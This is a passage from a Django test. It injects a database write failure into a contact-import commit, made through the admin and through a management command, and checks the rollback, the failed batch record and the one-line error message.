            sql = sql.replace(table, connection.ops.quote_name("no_such_table"), 1)
        return execute(sql, params, many, context)

    before = database_state()
    if door == "admin":
        key = uploaded(importer, org, data)
        with connection.execute_wrapper(changes_write_fails):
            response = importer.post(CONFIRM, key)
        assert response["Location"].split("?")[0] == PREVIEW
        [shown] = messages_of(response)
    else:
        path = tmp_path / "contacts.csv"
        path.write_bytes(data)
        with connection.execute_wrapper(changes_write_fails):
            status, _out, err = manage(path, "--organization", org.slug, "--commit")
        assert status == 1
        shown = err.removeprefix("CommandError: ").removesuffix("\n")

    assert (len(writes), stored_before_failure) == (1, [1 + 10])  # the old contact and the new ones
    assert database_state()[0] == before[0]
    assert ContactChange.objects.count() == 0
    batch = ImportBatch.objects.get()
    reason = batch.failure_reason.splitlines()[0]
    assert "no_such_table" in reason
    assert (batch.status, batch.rows, batch.new) == ("failed", 10, 10)
    # PostgreSQL's message goes on with LINE and caret lines: the one shown to people is its first line.
    assert shown == COMMIT_FAILED.format(reason=reason)
    assert "\n" not in shown
